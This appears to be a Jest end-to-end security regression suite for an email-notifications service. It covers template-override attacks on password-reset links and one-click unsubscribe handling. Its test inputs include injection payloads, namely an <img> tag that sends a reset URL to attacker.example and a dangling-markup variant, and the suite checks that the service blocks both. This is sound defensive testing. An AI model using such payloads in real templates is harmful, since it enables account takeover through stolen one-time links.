import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { AuthRpc, NotificationsRpc } from '@kinship/contracts';
import { postgresOptions } from '@kinship/persistence';
import type { RunningService } from '@kinship/platform';
import { createTestEnvironment, startMailbox, startTestService, type Mailbox, type ReceivedMail, type TestEnvironment } from '@kinship/testing';
import { DataSource } from 'typeorm';
import { authService } from '../../auth/src/auth.service.js';
import { crmService } from '../../crm/src/crm.service.js';
import { eventually } from '../../crm/test/support.js';
import { notificationsService } from '../../notifications/src/notifications.service.js';
import { startGateway } from '../src/gateway.js';

// Security regressions of issue 10 in the notifications area (findings 2 and 8), replayed through the public HTTP API.

const PASSWORD = 'amber-cobalt-violin-meadow-4';
const NEW_PASSWORD = 'quartz-lantern-orchid-river-7';

interface ApiResponse<Body = any> {
  status: number;
  body: Body;
  headers: Headers;
}

const uniqueEmail = (label: string) => `${label}-${randomBytes(4).toString('hex')}@example.com`;

let environment: TestEnvironment;
let mailbox: Mailbox;
let auth: RunningService;
let crm: RunningService;
let gateway: RunningService;
let notifications: RunningService;
/** The superuser that ran the migrations: looks at notifications' storage behind the API. */
let database: DataSource;
let api: string;

async function call(method: string, path: string, options: { token?: string; body?: unknown } = {}): Promise<ApiResponse> {
  const headers: Record<string, string> = {};
  if (options.token) headers.authorization = `Bearer ${options.token}`;
  if (options.body !== undefined) headers['content-type'] = 'application/json';
  const response = await fetch(`${api}${path}`, { method, headers, body: options.body === undefined ? undefined : JSON.stringify(options.body) });
  const text = await response.text();
  return { status: response.status, body: text ? JSON.parse(text) : undefined, headers: response.headers };
}

function expectError(response: ApiResponse, status: number, field: string): void {
  expect({ status: response.status, fields: (response.body?.error?.details ?? []).map((detail: { field?: string }) => detail.field) }).toEqual({
    status,
    fields: expect.arrayContaining([field]),
  });
}

function tokenIn(mail: ReceivedMail, path: string): string {
  const match = new RegExp(`${path}\\?token=([^\\s\\]"&<]+)`).exec(mail.text);
  if (!match) throw new Error(`no ${path} link in the text part: ${mail.text}`);
  return decodeURIComponent(match[1]!);
}

/** A new workspace whose owner is signed in, and an admin of it who joined by invitation. */
async function workspaceWithAdmin(label: string): Promise<{ ownerEmail: string; owner: AuthRpc.RegisterReply; admin: AuthRpc.Session }> {
  const ownerEmail = uniqueEmail(`${label}-owner`);
  const registered = await call('POST', '/auth/register', {
    body: { email: ownerEmail, password: PASSWORD, name: 'Owner', workspaceName: `${label} workspace` },
  });
  expect(registered.status).toBe(201);
  const owner = registered.body as AuthRpc.RegisterReply;
  const adminEmail = uniqueEmail(`${label}-admin`);
  expect((await call('POST', '/invitations', { token: owner.accessToken, body: { email: adminEmail, role: 'admin' } })).status).toBe(201);
  const [invitation] = await mailbox.waitForMessages(1, { to: adminEmail });
  const accepted = await call('POST', '/invitations/accept', {
    body: { token: tokenIn(invitation!, '/invitations/accept'), name: 'Admin', password: PASSWORD },
  });
  expect(accepted.status).toBe(201);
  return { ownerEmail, owner, admin: accepted.body as AuthRpc.Session };
}

beforeAll(async () => {
  environment = await createTestEnvironment('gateway-security-notify-e2e');
  mailbox = await startMailbox();
  auth = await startTestService(authService, environment);
  crm = await startTestService(crmService, environment);
  gateway = await startGateway(environment.env);
  api = `${gateway.url}/api/v1`;
  // Links in emails point at this gateway, so a test follows them as a recipient would.
  notifications = await startTestService(notificationsService, environment, {
    SMTP_URL: mailbox.smtpUrl,
    PUBLIC_URL: gateway.url,
    SEND_ATTEMPTS: '20',
    SEND_BACKOFF_MS: '200',
    CAMPAIGN_POLL_INTERVAL_MS: '200',
  });
  database = new DataSource(postgresOptions({ url: environment.databaseUrl, schema: 'notifications', poolSize: 1 }));
  await database.initialize();
});

afterAll(async () => {
  await notifications?.close();
  await gateway?.close();
  await crm?.close();
  await auth?.close();
  await database?.destroy();
  await mailbox?.close();
  await environment?.dispose();
});

describe('finding 2: an admin cannot read a security email’s one-time link (email template override + message log)', () => {
  it('refuses overrides that place a one-time link, keeps it out of the message log, and the owner’s password stays theirs', async () => {
    const { ownerEmail, admin } = await workspaceWithAdmin('takeover');

    // The attack of the issue: the reset link in the subject, which the message log keeps.
    expectError(await call('PATCH', '/email-templates/password_reset', { token: admin.accessToken, body: { subject: 'Reset {{resetUrl}}' } }), 422, 'subject');
    // …or in an attribute that loads remote content, or through lookup; the other security templates alike.
    expectError(
      await call('PATCH', '/email-templates/password_reset', {
        token: admin.accessToken,
        body: { body: '<img src="https://attacker.example/c?u={{resetUrl}}">' },
      }),
      422,
      'body',
    );
    expectError(
      await call('PATCH', '/email-templates/password_reset', { token: admin.accessToken, body: { body: '<p>{{lookup this "resetUrl"}}</p>' } }),
      422,
      'body',
    );
    expectError(
      await call('POST', '/email-templates', { token: admin.accessToken, body: { key: 'email_verification', subject: '{{verifyUrl}}', body: '<p>Hi</p>' } }),
      422,
      'subject',
    );
    expectError(
      await call('PATCH', '/email-templates/invitation', { token: admin.accessToken, body: { body: '<a href="{{acceptUrl}}">Join</a>' } }),
      422,
      'body',
    );
    const variables = (await call('GET', '/email-templates/password_reset', { token: admin.accessToken })).body as NotificationsRpc.EmailTemplate;
    expect(variables.variables).not.toContain('resetUrl');

    // What is allowed: wording and branding. A dangling attribute must not swallow the link block that follows it.
    const branded = await call('PATCH', '/email-templates/password_reset', {
      token: admin.accessToken,
      body: { subject: 'Acme: your password', body: '<p>Hello {{name}}, Acme here.</p><img alt="" src="https://attacker.example/collect?rest=' },
    });
    expect(branded.status).toBe(200);

    // Forgot password for the owner; the first attempts are refused, so the message waits in the log and storage.
    mailbox.refuseRecipient(ownerEmail);
    expect((await call('POST', '/auth/password/forgot', { body: { email: ownerEmail } })).status).toBe(202);
    const pending = await eventually(async () => {
      const page = (await call('GET', '/messages', { token: admin.accessToken })).body as NotificationsRpc.MessagePage;
      return page.data.find((message) => message.templateKey === 'password_reset' && message.attempts > 0);
    });
    expect(pending).toMatchObject({ address: ownerEmail, subject: null, status: 'queued' });
    const stored: Array<{ subject: string | null; html: string | null; text: string | null }> = await database.query(
      'SELECT subject, html, text FROM notifications.messages WHERE id = $1',
      [pending.id],
    );
    expect(stored).toEqual([{ subject: null, html: null, text: null }]);

    mailbox.refuseRecipient(ownerEmail, false);
    const resetMail = await eventually(
      async () => mailbox.messages().find((mail) => mail.to.includes(ownerEmail) && mail.text.includes('/reset-password?')),
      30_000,
    );
    const token = tokenIn(resetMail, '/reset-password');
    expect(resetMail.subject).toBe('Acme: your password');
    expect(resetMail.html).toContain('Acme here.');
    // The link sits in the fixed block, in an <a> of its own, and nowhere else.
    const links = [...resetMail.html.matchAll(/(?:src|href)="([^"]*)"/g)].map((match) => match[1]!);
    expect(links.filter((link) => link.includes(encodeURIComponent(token)) || link.includes(token))).toEqual([
      `${gateway.url}/reset-password?token=${encodeURIComponent(token)}`,
    ]);
    expect(resetMail.html.match(/reset-password\?token=/g)).toHaveLength(1);

    // Sent: the log and the storage still hold no content, and the admin has nothing to reset with.
    const log = await call('GET', '/messages', { token: admin.accessToken });
    expect(JSON.stringify(log.body)).not.toContain(token);
    expect(JSON.stringify(log.body)).not.toContain(encodeURIComponent(token));
    expect((log.body as NotificationsRpc.MessagePage).data.find((message) => message.id === pending.id)).toMatchObject({ status: 'sent', subject: null });
    const leftovers: Array<{ count: string }> = await database.query(
      `SELECT count(*) FROM notifications.messages WHERE row_to_json(messages)::text LIKE '%' || $1 || '%' OR row_to_json(messages)::text LIKE '%' || $2 || '%'`,
      [token, encodeURIComponent(token)],
    );
    expect(Number(leftovers[0]!.count)).toBe(0);

    // The owner’s password is unchanged; the legitimate link works once.
    expect((await call('POST', '/auth/login', { body: { email: ownerEmail, password: PASSWORD } })).status).toBe(200);
    expect((await call('POST', '/auth/password/reset', { body: { token, password: NEW_PASSWORD } })).status).toBe(204);
    expect((await call('POST', '/auth/login', { body: { email: ownerEmail, password: NEW_PASSWORD } })).status).toBe(200);
  });
});

describe('finding 8: a GET of the unsubscribe link changes nothing; the confirmation page’s POST (RFC 8058 one-click) opts out', () => {
  it('keeps the contact subscribed through GETs, opts out on the one-click POST, and refuses forged tokens', async () => {
    const registered = await call('POST', '/auth/register', {
      body: { email: uniqueEmail('sender'), password: PASSWORD, name: 'Sender', workspaceName: 'Newsletters' },
    });
    const token = (registered.body as AuthRpc.RegisterReply).accessToken;
    const address = uniqueEmail('reader');
    const contact = await call('POST', '/contacts', { token, body: { firstName: 'Reader', email: address } });
    expect(contact.status).toBe(201);
    const contactId = (contact.body as { id: string }).id;

    const sendCampaign = async (name: string): Promise<string> => {
      const created = await call('POST', '/campaigns', {
        token,
        body: { name, channel: 'email', subject: 'News', body: '<p>News for {{firstName}}</p>', audience: { contactIds: [contactId] } },
      });
      expect(created.status).toBe(201);
      const id = (created.body as { id: string }).id;
      expect((await call('POST', `/campaigns/${id}/send`, { token })).status).toBe(200);
      return eventually(async () => ((await call('GET', `/campaigns/${id}`, { token })).body.status === 'sent' ? id : undefined));
    };
    const campaignId = await sendCampaign('First');
    const [mail] = await mailbox.waitForMessages(1, { to: address });
    const link = /^<(https?:\/\/[^>]+\/api\/v1\/u\/[A-Za-z0-9_-]+)>$/.exec(mail!.headers['list-unsubscribe'] ?? '')?.[1];
    if (!link) throw new Error(`no List-Unsubscribe link in ${JSON.stringify(mail!.headers)}`);
    expect(mail!.headers['list-unsubscribe-post']).toBe('List-Unsubscribe=One-Click');
    expect(mail!.html).toContain(`href="${link}"`);

    // A link scanner, then the person, open the link: a confirmation page each time, and nothing changes.
    const pages = [await fetch(link), await fetch(link)];
    expect((await call('GET', `/campaigns/${campaignId}`, { token })).body.counts.unsubscribed).toBe(0);
    expect((await call('GET', `/campaigns/${campaignId}/recipients?status=unsubscribed`, { token })).body.data).toEqual([]);
    expect((await call('GET', `/contacts/${contactId}`, { token })).body.emailOptOut).toBe(false);
    for (const page of pages) {
      expect(page.status).toBe(200);
      expect(page.headers.get('content-type')).toContain('text/html');
      expect(page.headers.get('content-security-policy')).toContain("default-src 'none'");
      const html = await page.text();
      expect(html).toContain('<form method="post">');
      expect(html).toContain('<input type="hidden" name="List-Unsubscribe" value="One-Click">');
      expect(html).not.toMatch(/(?:src|href)="https?:/);
    }

    // A forged or altered token: 404, nothing changes, whichever method.
    const forged = link.replace(/.$/, (last) => (last === 'A' ? 'B' : 'A'));
    expect((await fetch(forged)).status).toBe(404);
    const forgedPost = await fetch(forged, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: 'List-Unsubscribe=One-Click',
    });
    expect(forgedPost.status).toBe(404);
    expect(((await forgedPost.json()) as { error: unknown }).error).toMatchObject({ status: 404 });
    expect((await call('GET', `/campaigns/${campaignId}`, { token })).body.counts.unsubscribed).toBe(0);

    // A POST that is not RFC 8058's one-click: 422 naming the field, nothing changes.
    for (const body of [undefined, 'List-Unsubscribe=Yes']) {
      const refused = await fetch(link, { method: 'POST', headers: body ? { 'content-type': 'application/x-www-form-urlencoded' } : {}, body });
      expect(refused.status).toBe(422);
      expect(((await refused.json()) as { error: { details: unknown } }).error.details).toEqual([expect.objectContaining({ field: 'List-Unsubscribe' })]);
    }
    expect((await call('GET', `/campaigns/${campaignId}`, { token })).body.counts.unsubscribed).toBe(0);

    // The one-click POST (what mail clients send) opts out.
    const oneClick = await fetch(link, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: 'List-Unsubscribe=One-Click',
    });
    expect(oneClick.status).toBe(200);
    expect(await oneClick.json()).toEqual({ channel: 'email', alreadyUnsubscribed: false });
    expect((await call('GET', `/campaigns/${campaignId}`, { token })).body.counts.unsubscribed).toBe(1);
    await eventually(async () => (await call('GET', `/contacts/${contactId}`, { token })).body.emailOptOut === true);

    // The page's button, from a browser: an HTML answer, as restricted as the page; the link stays used.
    const fromBrowser = await fetch(link, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded', accept: 'text/html,application/xhtml+xml,*/*;q=0.8' },
      body: 'List-Unsubscribe=One-Click',
    });
    expect(fromBrowser.status).toBe(200);
    expect(fromBrowser.headers.get('content-security-policy')).toContain("default-src 'none'");
    expect(await fromBrowser.text()).toContain('You are unsubscribed');
    expect(await (await fetch(link)).text()).not.toContain('<form');

    // The next campaign skips the contact.
    const next = await sendCampaign('Second');
    expect((await call('GET', `/campaigns/${next}`, { token })).body.counts).toMatchObject({ sent: 0, skippedOptedOut: 1 });
    expect(mailbox.messages().filter((message) => message.to.includes(address))).toHaveLength(1);
  });
});
